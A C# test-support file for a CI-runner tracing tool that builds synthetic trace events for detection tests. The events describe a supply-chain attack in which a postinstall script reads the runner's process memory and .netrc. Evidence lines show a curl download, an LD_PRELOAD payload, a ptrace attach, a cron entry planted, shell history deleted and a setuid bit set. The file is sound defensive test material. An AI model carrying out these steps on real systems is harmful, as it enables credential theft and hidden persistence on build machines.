using System.Net;
using Ashiato.Events;
using Ashiato.Events.Jsonl;

namespace Ashiato.Web.Tests.Support;

/// <summary>Traces written with the format library, shaped like a CI job that gets its runner's memory read.</summary>
public static class SampleTrace
{
    public const int RunnerPid = 1200;
    public static readonly DateTimeOffset Start = new(2026, 11, 20, 10, 0, 0, TimeSpan.Zero);

    public static IReadOnlyList<TraceRecord> RunnerMemoryRead()
    {
        var t = Start;
        DateTimeOffset At(double seconds) => t.AddSeconds(seconds);
        return
        [
            new TraceMeta { Timestamp = At(0), TracerVersion = "0.1.0", Kernel = "6.18.0", Hostname = "runner-1", Scope = TraceScope.All },
            new ProcessExec { Timestamp = At(0.1), Pid = RunnerPid, Comm = "Runner.Worker", Ppid = 1, Filename = "/home/runner/bin/Runner.Worker", Args = ["/home/runner/bin/Runner.Worker", "spawnclient", "107", "110"] },
            new ProcessExec { Timestamp = At(1), Pid = 1300, Comm = "bash", Ppid = RunnerPid, Filename = "/usr/bin/bash", Args = ["bash", "-e", "/home/runner/work/_temp/step.sh"] },
            new ProcessExec { Timestamp = At(2), Pid = 1301, Comm = "npm", Ppid = 1300, Filename = "/usr/bin/npm", Args = ["npm", "install"] },
            new DnsQuery { Timestamp = At(3), Pid = 1301, Comm = "npm", Hostname = "registry.example.org", Qtype = "A", Answers = [IPAddress.Parse("104.16.23.35")], Rcode = "NOERROR" },
            new NetConnect { Timestamp = At(3.1), Pid = 1301, Comm = "npm", DstAddr = IPAddress.Parse("104.16.23.35"), DstPort = 443, Protocol = NetProtocol.Tcp },
            new FileOpen { Timestamp = At(4), Pid = 1301, Comm = "npm", Path = "/home/runner/work/app/package.json", Flags = new OpenFlags(0) },
            new ProcessExec { Timestamp = At(5), Pid = 1302, Comm = "node", Ppid = 1301, Filename = "/usr/bin/node", Args = ["node", "postinstall.js"] },
            new FileOpen { Timestamp = At(5.5), Pid = 1302, Comm = "node", Path = "/proc/self/maps", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6), Pid = 1302, Comm = "node", Path = $"/proc/{RunnerPid}/maps", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6.1), Pid = 1302, Comm = "node", Path = $"/proc/{RunnerPid}/mem", Flags = new OpenFlags(0) },
            new FileOpen { Timestamp = At(6.2), Pid = 1302, Comm = "node", Path = "/home/runner/.netrc", Flags = new OpenFlags(0) },
            new FileWrite { Timestamp = At(7), Pid = 1301, Comm = "npm", Path = "/home/runner/work/app/node_modules/.package-lock.json", Bytes = 2048 },
            new TracerStats
            {
                Timestamp = At(8),
                Events = new Dictionary<EventKind, long> { [EventKind.ProcessExec] = 4, [EventKind.FileOpen] = 5 },
                Dropped = new Dictionary<EventKind, long>(),
                Truncated = new TruncationCounts(0, 0),
                Final = true,
            },
        ];
    }

    /// <summary>The runner trace inside a busier build: compiles, downloads and writes spread over two minutes.</summary>
    public static IReadOnlyList<TraceRecord> Demo()
    {
        var records = RunnerMemoryRead().ToList();
        var stats = records[^1];
        records.RemoveAt(records.Count - 1);
        var hosts = new[] { ("github.com", "140.82.112.3"), ("objects.githubusercontent.com", "185.199.108.133"), ("registry.example.org", "104.16.23.35") };
        for (var i = 0; i < 120; i++)
        {
            var at = Start.AddSeconds(8 + i);
            var pid = 3000 + i;
            records.Add(new ProcessExec { Timestamp = at, Pid = pid, Comm = "cc1", Ppid = 1301, Filename = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", Args = ["cc1", $"src/module{i}.c", "-O2"] });
            for (var j = 0; j < i % 9; j++)
            {
                records.Add(new FileOpen { Timestamp = at.AddMilliseconds(10 * j), Pid = pid, Comm = "cc1", Path = $"/usr/include/header{j}.h", Flags = new OpenFlags(0) });
            }
            records.Add(new FileWrite { Timestamp = at.AddMilliseconds(500), Pid = pid, Comm = "cc1", Path = $"/home/runner/work/app/build/module{i}.o", Bytes = 4096 + 37 * i });
            if (i % 15 == 0)
            {
                var (host, address) = hosts[i / 15 % hosts.Length];
                records.Add(new DnsQuery { Timestamp = at.AddMilliseconds(600), Pid = 1301, Comm = "npm", Hostname = host, Qtype = "A", Answers = [IPAddress.Parse(address)], Rcode = "NOERROR" });
                records.Add(new NetConnect { Timestamp = at.AddMilliseconds(650), Pid = 1301, Comm = "npm", DstAddr = IPAddress.Parse(address), DstPort = 443, Protocol = NetProtocol.Tcp, Hostname = host });
            }
        }
        records.Add(stats with { Timestamp = Start.AddSeconds(130) });
        return records;
    }

    /// <summary>The same job on a normal day: npm install from the registry, no postinstall, no memory or credential reads.</summary>
    public static IReadOnlyList<TraceRecord> NormalRun() =>
        [.. RunnerMemoryRead().Where(r => r is not ProcessEvent { Pid: 1302 })];

    /// <summary>Many events, for tests that need a body larger than a limit or many pages.</summary>
    public static IReadOnlyList<TraceRecord> Busy(int events)
    {
        var records = new List<TraceRecord>();
        for (var i = 0; i < events; i++)
        {
            records.Add(new FileOpen { Timestamp = Start.AddMilliseconds(i), Pid = 2000 + (i % 7), Comm = "make", Path = $"/home/runner/work/app/src/file{i}.c", Flags = new OpenFlags(0) });
        }
        return records;
    }

    /// <summary>
    /// The tracer's evidence records, as JSON lines (the contract fixes their shape): <c>--pid</c> of a running worker
    /// (1200) whose step shell (1300) was running too (snapshot execs), a subshell (1310) that never exec'd and runs
    /// curl (1311) and a node payload (1312) started with LD_PRELOAD, which attaches to the worker, renames a cron
    /// entry into place, deletes the shell history and sets a setuid bit.
    /// </summary>
    public static IReadOnlyList<string> EvidenceLines() =>
    [
        """{"type":"trace_meta","timestamp":"2026-11-20T10:00:00.000000Z","tracer_version":"0.1.0","kernel":"6.18.0","hostname":"runner-1","scope":"pid"}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1200,"ppid":1100,"comm":"Runner.Worker","filename":"/home/runner/bin/Runner.Worker","args":["/home/runner/bin/Runner.Worker","spawnclient","107","110"],"exe":"/home/runner/bin/Runner.Worker","snapshot":true}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1300,"ppid":1200,"comm":"bash","filename":"/usr/bin/bash","args":["/usr/bin/bash","-e","/home/runner/work/_temp/step.sh"],"exe":"/usr/bin/bash","snapshot":true}""",
        """{"type":"process_fork","timestamp":"2026-11-20T10:00:01.000000Z","pid":1310,"ppid":1300,"comm":"bash"}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:01.100000Z","pid":1311,"ppid":1310,"comm":"curl","filename":"/usr/bin/curl","args":["curl","-so","/tmp/x/job","https://example.org/job"]}""",
        """{"type":"process_exec","timestamp":"2026-11-20T10:00:02.000000Z","pid":1312,"ppid":1310,"comm":"node","filename":"/usr/bin/node","args":["node","payload.js"],"env":{"LD_PRELOAD":"/tmp/x/hook.so"}}""",
        """{"type":"process_access","timestamp":"2026-11-20T10:00:03.000000Z","pid":1312,"ppid":1310,"comm":"node","target_pid":1200,"target_comm":"Runner.Worker","method":"ptrace_attach","target_relation":"other","target_ppid":1100}""",
        """{"type":"file_rename","timestamp":"2026-11-20T10:00:04.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/job","new_path":"/etc/cron.d/job"}""",
        """{"type":"file_delete","timestamp":"2026-11-20T10:00:05.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/home/runner/.bash_history"}""",
        """{"type":"file_chmod","timestamp":"2026-11-20T10:00:06.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/sh","mode":"4755"}""",
        // Its parent gone, the payload is adopted by init: it still belongs under the subshell.
        """{"type":"file_open","timestamp":"2026-11-20T10:00:07.000000Z","pid":1312,"ppid":1,"comm":"node","path":"/home/runner/work/app/package.json","flags":"O_RDONLY"}""",
    ];

    /// <summary>Trace lines as the console stores them: one gzip member.</summary>
    public static byte[] GzipLines(IEnumerable<string> lines)
    {
        var stream = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(stream, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(System.Text.Encoding.UTF8.GetBytes(string.Concat(lines.Select(l => l + "\n"))));
        }
        return stream.ToArray();
    }

    public static byte[] Gzip(IEnumerable<TraceRecord> records)
    {
        var stream = new MemoryStream();
        using (var writer = new TraceFileWriter(stream, gzip: true))
        {
            foreach (var record in records)
            {
                writer.Write(record);
            }
        }
        return stream.ToArray();
    }

    public static string WriteFile(string directory, IEnumerable<TraceRecord> records)
    {
        var path = Path.Combine(directory, $"trace-{Guid.NewGuid():N}.jsonl.gz");
        File.WriteAllBytes(path, Gzip(records));
        return path;
    }
}
